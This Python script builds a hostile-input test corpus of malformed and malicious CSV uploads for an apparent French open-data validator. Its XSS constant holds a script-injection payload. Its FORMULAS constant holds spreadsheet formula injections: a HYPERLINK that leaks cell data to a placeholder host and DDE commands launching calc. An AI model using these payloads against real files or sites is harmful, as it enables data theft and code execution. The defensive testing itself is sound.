"""The hostile-input corpus: files a territory's agent, a broken export or an
attacker may upload. ``python -m tests.corpus.build`` writes them into
tests/corpus/files/ (committed, a few kilobytes each); the 50 MB file is only
ever written at test time (``big_subventions``), into a temporary folder, like
the megabyte-sized ones (``generated``).

Two families: ``scdl-*`` files declared as scdl/subventions, ``menus-*`` files
declared as scdl/menus-collectifs. The base rows are written here, not read
from the suite, so the corpus stays what it is when the suite changes.
"""
from __future__ import annotations

import csv
import io
import os
import sys

FILES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "files")

XSS = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
LONG = "Subvention " + "très longue " * 90_000  # about 1 MB in one cell

SUBVENTIONS_HEADER = [
    "nomAttribuant", "idAttribuant", "dateConvention", "referenceDecision", "nomBeneficiaire",
    "idBeneficiaire", "rnaBeneficiaire", "objet", "montant", "nature", "conditionsVersement",
    "datesPeriodeVersement", "idRAE", "notificationUE", "pourcentageSubvention", "dispositifAide"]
# Real SIRETs of the commune of Saint-Étienne and of an association (valid keys).
SUBVENTIONS_ROWS = [
    ["Commune de Saint-Étienne", "21420218600018", "2024-03-12", "DEL-2024-031",
     "Association des Amis du Musée d'Art", "52499120500013", "W423001234",
     "Fête de la Science à l'école Jules-Vallès", "12500.50", "aide en numéraire", "unique",
     "2024-04-01/2024-06-30", "", "non", "0.25", ""],
    ["Commune de Saint-Étienne", "21420218600018", "2024-05-02", "DEL-2024-058",
     "Comité des fêtes de Bellevue", "", "W423005678", "Œuvres sociales – été 2024",
     "3000", "aide en numéraire", "échelonné", "2024-06-01/2024-09-30", "", "non", "0.1", ""],
]

MENUS_HEADER = [
    "menuCollNom", "menuCollSiret", "menuEtablissementNom", "menuEtablissementSiret",
    "menuRestaurantNom", "menuRestaurantInsee", "menuRestaurantId", "menuRestaurantIdType",
    "menuRestaurantType", "menuRestaurantConvive", "menuDate", "menuRepasType", "menuPlatType",
    "menuPlatNom", "menuPlatCode", "menuPlatSiqo", "menuPlatLabel", "menuPlatPrecision",
    "menuPlatRegime", "menuPlatAllergene", "menuPlatTexture", "menuPlatNutriscore",
    "menuPlatPrix", "menuPublicationDate", "menuModificationDate", "menuModificationInfo"]


def _menu_row(day: str, dish_type: str, name: str, **fields) -> list:
    row = {"menuCollNom": "Commune de Saint-Étienne", "menuCollSiret": "21420218600018",
           "menuEtablissementNom": "Cuisine centrale", "menuEtablissementSiret": "21420218600018",
           "menuRestaurantNom": "École des Tilleuls", "menuRestaurantInsee": "42218",
           "menuRestaurantId": "0425678B", "menuRestaurantIdType": "EN",
           "menuRestaurantType": "maternelle", "menuRestaurantConvive": "tous",
           "menuDate": day, "menuRepasType": "déjeuner", "menuPlatType": dish_type,
           "menuPlatNom": name, "menuPlatRegime": '["végétarien"]',
           "menuPlatAllergene": '["oeufs"]', "menuPlatTexture": '["sans texture modifiée"]',
           "menuPublicationDate": "2025-08-25T08:00:00Z"}
    row.update(fields)
    return [row.get(column, "") for column in MENUS_HEADER]


MENUS_ROWS = [
    _menu_row("2025-09-01", "entrée", "Céleri rémoulade"),
    _menu_row("2025-09-01", "plat principal", "Omelette aux fines herbes"),
    _menu_row("2025-09-02", "dessert", "Crème brûlée", menuPlatAllergene='["oeufs","lait"]'),
]


def _csv(header, rows, delimiter=",", newline="\r\n") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows([header] + rows)
    return buffer.getvalue()


def _with(rows, header, **cells) -> list:
    """The rows with some cells replaced, by column name."""
    changed = []
    for row in rows:
        row = list(row)
        for column, value in cells.items():
            row[header.index(column)] = value
        changed.append(row)
    return changed


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00"
       b"\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
       b"\x00\x00\x00IEND\xaeB`\x82")
XLSX_START = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + b"[Content_Types].xml" + bytes(200)


def corpus() -> dict:
    """File name -> content, every file of tests/corpus/files/."""
    s_header, s_rows = SUBVENTIONS_HEADER, SUBVENTIONS_ROWS
    m_header, m_rows = MENUS_HEADER, MENUS_ROWS
    plain = _csv(s_header, s_rows)
    files = {
        "scdl-latin-1.csv": plain.replace("Œuvres", "Les oeuvres").replace("–", "-")
        .encode("latin-1"),
        "scdl-cp1252-semicolon.csv": _csv(s_header, s_rows, ";").encode("cp1252"),
        "scdl-utf-16.csv": plain.encode("utf-16"),
        "scdl-utf-8-bom-tab.csv": b"\xef\xbb\xbf" + _csv(s_header, s_rows, "\t").encode(),
        "scdl-cr-only.csv": _csv(s_header, s_rows, newline="\r").encode(),
        "scdl-empty.csv": b"",
        "scdl-blank-lines.csv": b"\r\n\r\n   \r\n",
        "scdl-header-only.csv": _csv(s_header, []).encode(),
        "scdl-binary-png.csv": PNG,
        "scdl-binary-xlsx.csv": XLSX_START,
        "scdl-nul-bytes.csv": plain.encode().replace(b"unique", b"uni\x00que") + b"\x00" * 64,
        "scdl-unclosed-quote.csv": (plain + '"Commune,"21420218600018,2024-01-01\r\n').encode(),
        "scdl-formulas.csv": _csv(s_header, [
            _with(s_rows, s_header, nomBeneficiaire=formula, objet=formula)[0]
            for formula in FORMULAS]).encode(),
        "scdl-xss.csv": _csv(s_header + [XSS], _with(
            [row + [XSS] for row in s_rows], s_header + [XSS],
            idAttribuant=XSS, objet=XSS, montant=XSS, nomBeneficiaire=XSS)).encode(),
        "scdl-invalid-identifiers.csv": _csv(s_header, [
            _with(s_rows, s_header, idAttribuant=siret, idBeneficiaire=siret)[0]
            for siret in ("21420218600019", "2142021860001", "2142021860001A", "00000000000000",
                          "214202186 00018", "-21420218600018", "٢١٤٢٠٢١٨٦٠٠٠١٨")]).encode(),
        "menus-cp1252-semicolon.csv": _csv(m_header, m_rows, ";").encode("cp1252"),
        "menus-utf-16.csv": _csv(m_header, m_rows).encode("utf-16"),
        "menus-empty.csv": b"",
        "menus-header-only.csv": _csv(m_header, []).encode(),
        "menus-binary-png.csv": PNG,
        "menus-xss.csv": _csv(m_header, _with(m_rows, m_header, menuPlatNom=XSS,
                                              menuRestaurantNom=XSS, menuPlatLabel=XSS,
                                              menuPlatAllergene=f'["{XSS}"]')).encode(),
        "menus-formulas.csv": _csv(m_header, [
            _menu_row("2025-09-03", "plat principal", formula) for formula in FORMULAS]).encode(),
        "menus-invalid-identifiers.csv": _csv(m_header, [
            _menu_row("2025-09-03", "plat principal", "Gratin", menuCollSiret=siret,
                      menuRestaurantInsee=insee)
            for siret, insee in (("21420218600019", "42999"), ("123", "2C001"),
                                 ("2142021860001A", "00000"), ("", "1234"), ("21420218600018", "ABCDE"))
        ]).encode(),
        "menus-far-dates.csv": _csv(m_header, [
            _menu_row(day, "plat principal", "Omelette")
            for day in ("9999-12-31", "0001-01-01", "2025-02-30", "1899-12-31", "20250901")]).encode(),
    }
    return files


def generated() -> dict:
    """File name -> content, the files too big to commit (written at test time)."""
    s_header, s_rows = SUBVENTIONS_HEADER, SUBVENTIONS_ROWS
    return {
        "scdl-long-fields.csv": _csv(s_header, _with(s_rows[:1], s_header, objet=LONG,
                                                     idAttribuant="9" * 200_000) + s_rows[1:]).encode(),
        "scdl-long-header.csv": _csv(s_header + ["colonne" * 20_000] + [
            f"extra{i}" for i in range(3000)], [row + [""] * 3001 for row in s_rows]).encode(),
        "menus-long-fields.csv": _csv(MENUS_HEADER, _with(MENUS_ROWS[:1], MENUS_HEADER,
                                                          menuPlatNom=LONG,
                                                          menuRestaurantNom="R" * 100_000)
                                      + MENUS_ROWS[1:]).encode(),
    }


def big_subventions(path: str, size: int = 50 * 1024 * 1024) -> str:
    """A valid scdl/subventions file of ``size`` bytes at ``path``, written in
    chunks (never held in memory). Unique references keep it valid."""
    header = _csv(SUBVENTIONS_HEADER, []).encode()
    template = SUBVENTIONS_ROWS[0]
    reference = SUBVENTIONS_HEADER.index("referenceDecision")
    written = 0
    with open(path, "wb") as handle:
        handle.write(header)
        written += len(header)
        number = 0
        while written < size:
            rows = []
            for _ in range(2000):
                number += 1
                row = list(template)
                row[reference] = f"DEL-{number:09d}"
                rows.append(row)
            chunk = _csv(SUBVENTIONS_HEADER, rows).encode().split(b"\r\n", 1)[1]
            handle.write(chunk)
            written += len(chunk)
    return path


def main() -> int:
    os.makedirs(FILES, exist_ok=True)
    for name, content in sorted(corpus().items()):
        with open(os.path.join(FILES, name), "wb") as handle:
            handle.write(content)
    print(f"{len(corpus())} fichiers écrits dans {FILES}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
